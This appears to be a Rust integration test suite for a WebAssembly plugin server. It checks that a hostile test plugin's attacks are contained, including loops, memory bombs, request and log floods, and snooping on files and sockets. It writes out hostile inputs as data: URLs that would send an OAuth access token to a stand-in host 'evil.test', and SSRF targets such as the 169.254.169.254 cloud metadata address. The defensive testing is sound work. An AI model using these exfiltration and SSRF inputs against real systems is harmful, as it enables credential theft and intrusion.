//! Hostile plugins: every attack of `tests/plugins/hostile` is contained to the call that makes
//! it, answered with its own error code, and the server serves the next call as before.
//!
//! After each attack the test calls `count`, which answers 1 from a fresh instance: the server
//! still runs plugins, and nothing of the attack's instance survived into the next call.

use std::future::Future;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use futures::future::join_all;
use reqwest::Method;
use serde_json::{Value, json};

use crate::harness::{ApiKey, Keyhole, Reply, ReplyExt, guests, install_probe};

/// The call deadline of the servers whose tests wait for it: short, so that they end quickly.
const CALL_TIMEOUT: Duration = Duration::from_millis(1500);

/// How long past its deadline a call may take to be answered, on a machine busy with the other
/// tests: well under any second deadline, so that a call that is never stopped still fails.
const DEADLINE_SLACK: Duration = Duration::from_secs(5);

/// The server's default cap on the outgoing requests of one call.
const MAX_REQUESTS_PER_CALL: u64 = 64;

/// The server's default cap on the size of a result.
const MAX_RESULT_BYTES: u64 = 1024 * 1024;

/// The server's default cap on a plugin's linear memory, in MiB.
const MAX_MEMORY_MIB: u64 = 64;

/// The server's caps on a plugin's log output: per message, and per call.
const MAX_LOG_MESSAGE_BYTES: usize = 4 * 1024;
const MAX_CALL_LOG_BYTES: usize = 64 * 1024;

/// What the hostile plugin's `log_flood` repeats in each message.
const LOG_FLOOD_TOKEN: &str = "<flood>";

/// A server started with `extra_args`, with the hostile plugin installed, and a key to call it.
async fn start_with(extra_args: &[&str]) -> Result<(Keyhole, ApiKey)> {
    let keyhole = Keyhole::start_with(extra_args).await?;
    let wasm = guests().await?.hostile()?;
    keyhole.upload(wasm).await?.expect(201)?;
    let key = keyhole.create_api_key("acme").await?;
    Ok((keyhole, key))
}

/// A server with the default limits.
async fn start() -> Result<(Keyhole, ApiKey)> {
    start_with(&[]).await
}

/// A server with a short call deadline and room for one call at a time, so that a call after an
/// attack that ran into the deadline proves the attack's slot was given back.
async fn start_with_short_deadline() -> Result<(Keyhole, ApiKey)> {
    let timeout = CALL_TIMEOUT.as_millis().to_string();
    start_with(&["--call-timeout-ms", &timeout, "--max-concurrent-calls", "1"]).await
}

/// Calls one of the hostile plugin's tools.
async fn attack(keyhole: &Keyhole, key: &ApiKey, tool: &str, arguments: Value) -> Result<Reply> {
    keyhole.invoke(key, "hostile", tool, arguments).await
}

/// Calls one of the hostile plugin's tools and returns its output, which must be a success.
async fn output_of(keyhole: &Keyhole, key: &ApiKey, tool: &str, arguments: Value) -> Result<Value> {
    let reply = attack(keyhole, key, tool, arguments).await?;
    Ok(reply.expect(200)?["output"].take())
}

/// Runs `future` and measures how long it took.
async fn timed<T>(future: impl Future<Output = T>) -> (T, Duration) {
    let started = Instant::now();
    let value = future.await;
    (value, started.elapsed())
}

/// Asserts that the server still runs calls, each in a fresh instance.
async fn assert_still_serving(keyhole: &Keyhole, key: &ApiKey) -> Result<()> {
    let output = output_of(keyhole, key, "count", json!({})).await?;
    assert_eq!(output, json!({ "count": 1 }), "the call after the attack");
    Ok(())
}

/// Asserts that a call was stopped by its deadline: 504 `deadline_exceeded`, not before the
/// deadline and not long after it.
fn assert_stopped_at_the_deadline(reply: &Reply, elapsed: Duration) -> Result<()> {
    reply.expect_error(504, "deadline_exceeded")?;
    assert!(
        elapsed >= CALL_TIMEOUT,
        "answered after {elapsed:?}, before the deadline of {CALL_TIMEOUT:?}: {reply}"
    );
    assert!(
        elapsed < CALL_TIMEOUT + DEADLINE_SLACK,
        "answered only after {elapsed:?}, with a deadline of {CALL_TIMEOUT:?}"
    );
    Ok(())
}

#[tokio::test]
async fn infinite_loop_is_stopped_at_the_deadline() -> Result<()> {
    let (keyhole, key) = start_with_short_deadline().await?;

    let (reply, elapsed) = timed(attack(&keyhole, &key, "spin", json!({}))).await;

    assert_stopped_at_the_deadline(&reply?, elapsed)?;
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn sleeping_on_the_host_clock_is_stopped_at_the_deadline() -> Result<()> {
    let (keyhole, key) = start_with_short_deadline().await?;

    // An hour: epoch interruption never fires while the guest waits in the host.
    let arguments = json!({ "ms": 3_600_000 });
    let (reply, elapsed) = timed(attack(&keyhole, &key, "sleep", arguments)).await;

    assert_stopped_at_the_deadline(&reply?, elapsed)?;
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn request_that_is_never_answered_is_stopped_at_the_deadline() -> Result<()> {
    let (keyhole, key) = start_with_short_deadline().await?;

    let (reply, elapsed) = timed(attack(&keyhole, &key, "hang", json!({}))).await;

    assert_stopped_at_the_deadline(&reply?, elapsed)?;
    // The request did leave: the call waited on I/O, it was not refused.
    keyhole.upstream().request_to("/hang")?;
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn memory_bomb_traps_only_its_own_call() -> Result<()> {
    let (keyhole, key) = start().await?;

    let reply = attack(&keyhole, &key, "memory_bomb", json!({})).await?;

    reply.expect_error(500, "plugin_failed")?;
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn linear_memory_is_capped_at_the_limit() -> Result<()> {
    let (keyhole, key) = start().await?;

    let output = output_of(&keyhole, &key, "memory_probe", json!({})).await?;

    let allocated = output["allocated_mib"]
        .as_u64()
        .with_context(|| format!("no allocated_mib in {output}"))?;
    // The plugin's own code, data and stack take a little of the cap; the rest is its heap.
    assert!(
        allocated < MAX_MEMORY_MIB,
        "the plugin allocated {allocated} MiB, over the {MAX_MEMORY_MIB} MiB cap"
    );
    assert!(
        allocated >= MAX_MEMORY_MIB / 2,
        "the plugin allocated only {allocated} MiB; the probe, not the cap, stopped it"
    );
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn deep_recursion_traps_only_its_own_call() -> Result<()> {
    let (keyhole, key) = start().await?;

    let reply = attack(&keyhole, &key, "recurse", json!({})).await?;

    reply.expect_error(500, "plugin_failed")?;
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn result_over_the_size_limit_is_refused_and_not_sent() -> Result<()> {
    let (keyhole, key) = start().await?;

    let huge = json!({ "bytes": 8 * MAX_RESULT_BYTES });
    let reply = attack(&keyhole, &key, "huge_result", huge).await?;

    let error = reply.expect_error(500, "plugin_failed")?;
    let message = error["message"].as_str().unwrap_or_default();
    assert!(message.contains("size limit"), "{reply}");
    assert!(
        reply.text.len() < 1024,
        "the refusal carries {} bytes",
        reply.text.len()
    );
    // The limit holds back only what exceeds it.
    let half = MAX_RESULT_BYTES / 2;
    let output = output_of(&keyhole, &key, "huge_result", json!({ "bytes": half })).await?;
    let length = output.as_str().map(str::len);
    assert_eq!(length, Some(half as usize), "the result under the limit");
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn request_flood_stops_at_the_per_call_cap() -> Result<()> {
    let (keyhole, key) = start().await?;

    let count = MAX_REQUESTS_PER_CALL + 36;
    let output = output_of(&keyhole, &key, "flood", json!({ "count": count })).await?;

    let expected = json!({ "sent": MAX_REQUESTS_PER_CALL, "denied": 36, "failed": 0 });
    assert_eq!(output, expected, "what the flood got through");
    let reached = keyhole
        .upstream()
        .requests()
        .iter()
        .filter(|request| request.path().starts_with("/flood/"))
        .count();
    assert_eq!(
        reached as u64, MAX_REQUESTS_PER_CALL,
        "requests that reached the upstream"
    );
    // The cap is per call: the next call starts with a full allowance.
    let next = output_of(&keyhole, &key, "flood", json!({ "count": 3 })).await?;
    assert_eq!(next, json!({ "sent": 3, "denied": 0, "failed": 0 }));
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn declared_internal_addresses_are_refused() -> Result<()> {
    let (keyhole, key) = start().await?;

    // The plugin declared these hosts; their addresses are internal all the same.
    for url in [
        "https://127.0.0.1/",
        "https://169.254.169.254/latest/meta-data",
    ] {
        let output = output_of(&keyhole, &key, "fetch", json!({ "url": url })).await?;
        assert_eq!(output["denied"], true, "the guest saw {output}");
    }
    keyhole.logs().wait_for("address not public").await?;

    // A declared name that resolves to loopback is refused after resolution, at connect time.
    let url = "https://localhost/";
    let output = output_of(&keyhole, &key, "fetch", json!({ "url": url })).await?;
    let code = output["code"].as_str().unwrap_or_default();
    assert!(
        code.contains("DestinationIpProhibited"),
        "the guest saw {output}"
    );
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn access_token_placeholder_is_refused_outside_api_hosts() -> Result<()> {
    let (keyhole, key) = start().await?;

    // The plugin declares no OAuth API host: no host may receive the token, declared or not,
    // with the placeholder spelled out or percent-encoded.
    for url in [
        "https://evil.test/?t={OAUTH_PLUGIN_ACCESS_TOKEN}",
        "https://allowed.test/leak?t={OAUTH_PLUGIN_ACCESS_TOKEN}",
        "https://allowed.test/leak?t=%7BOAUTH_PLUGIN_ACCESS_TOKEN%7D",
    ] {
        let output = output_of(&keyhole, &key, "fetch", json!({ "url": url })).await?;
        assert_eq!(output["denied"], true, "the guest saw {output}");
    }
    let leaked = keyhole.upstream().requests_to("/leak");
    assert!(leaked.is_empty(), "the upstream received {leaked:?}");
    keyhole.logs().wait_for("access token placeholder").await?;
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn environment_files_and_sockets_are_out_of_reach() -> Result<()> {
    let (keyhole, key) = start().await?;
    let port = keyhole.upstream().port();

    let output = output_of(&keyhole, &key, "snoop", json!({ "port": port })).await?;

    assert_eq!(output["env"], json!([]), "environment variables: {output}");
    assert_eq!(output["args"], 0, "arguments: {output}");
    for probe in [
        "read_dir_root",
        "read_dir_cwd",
        "read_passwd",
        "write_tmp",
        "tcp_connect",
        "dns_lookup",
    ] {
        assert_eq!(output[probe]["ok"], false, "`{probe}` succeeded: {output}");
    }
    assert!(
        keyhole.upstream().requests().is_empty(),
        "the plugin reached the upstream"
    );
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn trap_with_a_response_open_fails_only_its_own_call() -> Result<()> {
    let (keyhole, key) = start().await?;

    let reply = attack(&keyhole, &key, "trap_mid_response", json!({})).await?;

    reply.expect_error(500, "plugin_failed")?;
    // It trapped with the response under way, not before sending the request.
    keyhole.upstream().request_to("/big")?;
    assert_still_serving(&keyhole, &key).await
}

#[tokio::test]
async fn every_call_runs_in_a_fresh_instance() -> Result<()> {
    let (keyhole, key) = start().await?;

    for _ in 0..3 {
        let output = output_of(&keyhole, &key, "count", json!({})).await?;
        assert_eq!(output, json!({ "count": 1 }), "a static survived a call");
    }
    let together = (0..4).map(|_| output_of(&keyhole, &key, "count", json!({})));
    for output in join_all(together).await {
        assert_eq!(
            output?,
            json!({ "count": 1 }),
            "calls at once share a static"
        );
    }
    Ok(())
}

#[tokio::test]
async fn log_flood_is_capped_per_message_and_per_call() -> Result<()> {
    let (keyhole, key) = start().await?;

    let output = output_of(&keyhole, &key, "log_flood", json!({ "lines": 100 })).await?;

    assert_eq!(output, json!({ "logged": 100 }));
    keyhole.logs().wait_for("reached its cap").await?;
    let logs = keyhole.logs().text();
    let lines: Vec<&str> = logs
        .lines()
        .filter(|line| line.contains(LOG_FLOOD_TOKEN))
        .collect();
    let per_line = |line: &str| line.matches(LOG_FLOOD_TOKEN).count() * LOG_FLOOD_TOKEN.len();
    let total: usize = lines.iter().map(|line| per_line(line)).sum();
    assert!(!lines.is_empty(), "nothing of the flood was logged");
    assert!(
        lines
            .iter()
            .all(|line| per_line(line) <= MAX_LOG_MESSAGE_BYTES),
        "a message was logged over {MAX_LOG_MESSAGE_BYTES} bytes"
    );
    assert!(
        total <= MAX_CALL_LOG_BYTES,
        "the call logged {total} bytes, over {MAX_CALL_LOG_BYTES}"
    );
    assert_still_serving(&keyhole, &key).await
}

/// How many calls the flood test fires at once, and how many the server runs at once.
const FLOOD_CALLS: usize = 20;
const FLOOD_CAP: usize = 2;

/// How long each call of the flood sleeps: long enough that the flood is still on while the
/// test checks the server, and that a call that was queued instead of refused is seen as late.
const FLOOD_SLEEP: Duration = Duration::from_millis(3000);

/// How quickly the server answers while flooded: well under [`FLOOD_SLEEP`].
const RESPONSIVE: Duration = Duration::from_millis(1500);

#[tokio::test]
async fn call_flood_is_refused_busy_while_the_server_stays_responsive() -> Result<()> {
    let cap = FLOOD_CAP.to_string();
    let (keyhole, key) = start_with(&["--max-concurrent-calls", &cap]).await?;
    install_probe(&keyhole).await?;

    let flood = tokio::time::timeout(FLOOD_SLEEP * 10, async {
        let sleep = json!({ "ms": FLOOD_SLEEP.as_millis() as u64 });
        let calls = (0..FLOOD_CALLS).map(|_| timed(attack(&keyhole, &key, "sleep", sleep.clone())));
        tokio::join!(join_all(calls), check_while_flooded(&keyhole, &key))
    });
    let (replies, during) = flood.await.context("the flood did not end by itself")?;
    during?;

    let mut finished = 0;
    let mut busy = 0;
    for (reply, elapsed) in replies {
        let reply = reply?;
        if reply.status == 429 {
            reply.expect_error(429, "busy")?;
            assert!(
                elapsed < RESPONSIVE,
                "a busy answer took {elapsed:?}: calls queue"
            );
            busy += 1;
        } else {
            let body = reply.expect(200)?;
            assert_eq!(body["output"]["slept_ms"], FLOOD_SLEEP.as_millis() as u64);
            finished += 1;
        }
    }
    assert_eq!(finished, FLOOD_CAP, "calls that ran");
    assert_eq!(busy, FLOOD_CALLS - FLOOD_CAP, "calls refused busy");
    // Once the flood is over, calls run again.
    assert_still_serving(&keyhole, &key).await
}

/// While the flood runs: `/healthz` answers at once, and so does a call to another plugin,
/// either run or refused `busy` (the cap on calls is global), never queued behind the flood.
async fn check_while_flooded(keyhole: &Keyhole, key: &ApiKey) -> Result<()> {
    // Let the flood's calls reach the server and take the slots.
    tokio::time::sleep(FLOOD_SLEEP / 6).await;

    let health = keyhole.request(Method::GET, "/healthz").reply();
    let (health, elapsed) = timed(health).await;
    assert_eq!(health?.expect(200)?, json!({ "status": "ok" }));
    assert!(
        elapsed < RESPONSIVE,
        "/healthz took {elapsed:?} under the flood"
    );

    let echo = keyhole.invoke(key, "probe", "echo", json!({ "text": "hi" }));
    let (reply, elapsed) = timed(echo).await;
    let reply = reply?;
    assert!(
        elapsed < RESPONSIVE,
        "a call took {elapsed:?} under the flood"
    );
    if reply.status == 429 {
        reply.expect_error(429, "busy")?;
    } else {
        reply.expect(200)?;
    }
    Ok(())
}
